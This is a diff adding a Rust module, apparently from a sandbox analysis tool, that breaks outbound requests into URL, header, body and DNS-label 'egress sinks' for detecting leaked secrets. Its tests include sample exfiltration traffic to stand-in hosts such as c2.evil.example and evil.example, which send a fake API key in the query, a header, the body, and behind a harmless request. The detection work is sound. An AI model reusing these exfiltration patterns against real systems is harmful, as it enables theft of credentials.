@@ -0,0 +1,222 @@
+use std::net::IpAddr;
+
+use serde::{Deserialize, Serialize};
+
+use crate::collect::NetworkObservation;
+
+/// places in an outbound request where a server can smuggle data off the host
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "type")]
+pub enum EgressSink {
+    // percent-decoded path and query string
+    UrlQuery {
+        url: String,
+        value: String,
+    },
+    HttpHeader {
+        url: String,
+        name: String,
+        value: String,
+    },
+    HttpBody {
+        url: String,
+        value: String,
+    },
+    // subdomain labels of a hostname, joined, so secrets split across labels still match
+    DnsLabel {
+        host: String,
+        value: String,
+    },
+}
+
+impl EgressSink {
+    pub fn as_text(&self) -> &str {
+        match self {
+            EgressSink::UrlQuery { value, .. } => value,
+            EgressSink::HttpHeader { value, .. } => value,
+            EgressSink::HttpBody { value, .. } => value,
+            EgressSink::DnsLabel { value, .. } => value,
+        }
+    }
+}
+
+// headers every client sends; the hostname is already covered by DnsLabel
+const ROUTINE_HEADERS: &[&str] = &[
+    "host",
+    "content-length",
+    "content-type",
+    "connection",
+    "accept",
+    "accept-encoding",
+    "transfer-encoding",
+];
+
+/// egress sinks for everything the network collector saw leave the guest,
+/// whether it was allowed out or not
+pub fn extract_egress_sinks(observations: &[NetworkObservation]) -> Vec<EgressSink> {
+    let mut out = Vec::new();
+    for obs in observations {
+        if let Some(value) = dns_labels(&obs.remote_host) {
+            out.push(EgressSink::DnsLabel {
+                host: obs.remote_host.clone(),
+                value,
+            });
+        }
+
+        let url = obs.url.clone().unwrap_or_else(|| obs.remote_host.clone());
+        if let Some(value) = obs.url.as_deref().and_then(path_and_query) {
+            out.push(EgressSink::UrlQuery {
+                url: url.clone(),
+                value,
+            });
+        }
+        for (name, value) in &obs.request_headers {
+            if ROUTINE_HEADERS
+                .iter()
+                .any(|routine| name.eq_ignore_ascii_case(routine))
+            {
+                continue;
+            }
+            out.push(EgressSink::HttpHeader {
+                url: url.clone(),
+                name: name.clone(),
+                value: value.clone(),
+            });
+        }
+        if let Some(body) = obs.request_body.as_ref().filter(|body| !body.is_empty()) {
+            out.push(EgressSink::HttpBody {
+                url: url.clone(),
+                value: body.clone(),
+            });
+        }
+    }
+    out.dedup();
+    out
+}
+
+fn dns_labels(host: &str) -> Option<String> {
+    let host = host.trim_matches(['[', ']']).trim_end_matches('.');
+    if host.is_empty() || host.parse::<IpAddr>().is_ok() {
+        return None;
+    }
+    let labels: Vec<&str> = host.split('.').collect();
+    // registrable domain (last two labels) is where the data goes, not what it carries
+    if labels.len() <= 2 {
+        return None;
+    }
+    Some(labels[..labels.len() - 2].concat())
+}
+
+pub(crate) fn path_and_query(url: &str) -> Option<String> {
+    let rest = url.split_once("://").map(|(_, rest)| rest).unwrap_or(url);
+    let path = &rest[rest.find('/')?..];
+    if path == "/" {
+        return None;
+    }
+    Some(percent_decode(path))
+}
+
+pub(crate) fn percent_decode(s: &str) -> String {
+    let bytes = s.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'%' if i + 2 < bytes.len() => {
+                match std::str::from_utf8(&bytes[i + 1..i + 3])
+                    .ok()
+                    .and_then(|hex| u8::from_str_radix(hex, 16).ok())
+                {
+                    Some(byte) => {
+                        out.push(byte);
+                        i += 3;
+                        continue;
+                    }
+                    None => out.push(b'%'),
+                }
+            }
+            b'+' => out.push(b' '),
+            byte => out.push(byte),
+        }
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::collect::NetworkDirection;
+
+    #[test]
+    fn splits_request_into_egress_sinks() {
+        let obs = NetworkObservation {
+            direction: NetworkDirection::Outbound,
+            protocol: "http".to_string(),
+            remote_host: "sekret01.x.c2.evil.example".to_string(),
+            url: Some("http://sekret01.x.c2.evil.example/beacon?k=SEKRET%5F0123".to_string()),
+            request_headers: vec![
+                ("Host".to_string(), "c2.evil.example".to_string()),
+                ("X-Token".to_string(), "SEKRET_0123".to_string()),
+            ],
+            request_body: Some("payload=SEKRET_0123".to_string()),
+            ..Default::default()
+        };
+
+        let sinks = extract_egress_sinks(&[obs]);
+        let texts: Vec<&str> = sinks.iter().map(EgressSink::as_text).collect();
+        assert_eq!(
+            texts,
+            [
+                "sekret01xc2",
+                "/beacon?k=SEKRET_0123",
+                "SEKRET_0123",
+                "payload=SEKRET_0123"
+            ]
+        );
+        assert!(matches!(&sinks[2], EgressSink::HttpHeader { name, .. } if name == "X-Token"));
+    }
+
+    #[test]
+    fn secret_sent_behind_a_harmless_request_is_still_a_sink() {
+        use std::io::{Read, Write};
+        use std::net::TcpStream;
+        use std::sync::Arc;
+
+        use crate::collect::NetworkCollector;
+        use crate::taint::flow::detect_flows;
+        use crate::taint::source::TaintSource;
+
+        let collector = Arc::new(NetworkCollector::new());
+        let port = collector.start_egress_proxy().expect("bind proxy");
+        let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("connect to proxy");
+        stream
+            .write_all(
+                b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n\
+                  POST http://evil.example/c HTTP/1.1\r\nHost: evil.example\r\n\
+                  Content-Length: 16\r\n\r\nsk-live-12345678",
+            )
+            .expect("write requests");
+        let mut response = String::new();
+        stream.read_to_string(&mut response).expect("read response");
+        drop(stream);
+
+        // the proxy records the second request after the client has its answer
+        let mut observations = collector.observations();
+        for _ in 0..50 {
+            if observations.len() == 2 {
+                break;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(20));
+            observations = collector.observations();
+        }
+        let sinks = extract_egress_sinks(&observations);
+        let sources = vec![TaintSource::EnvVar {
+            key: "API_KEY".into(),
+            value: "sk-live-12345678".into(),
+        }];
+        let flows = detect_flows(&sources, &sinks);
+        assert_eq!(flows.len(), 1);
+        assert_eq!(flows[0].sink_type, "EgressHttpBody");
+    }
+}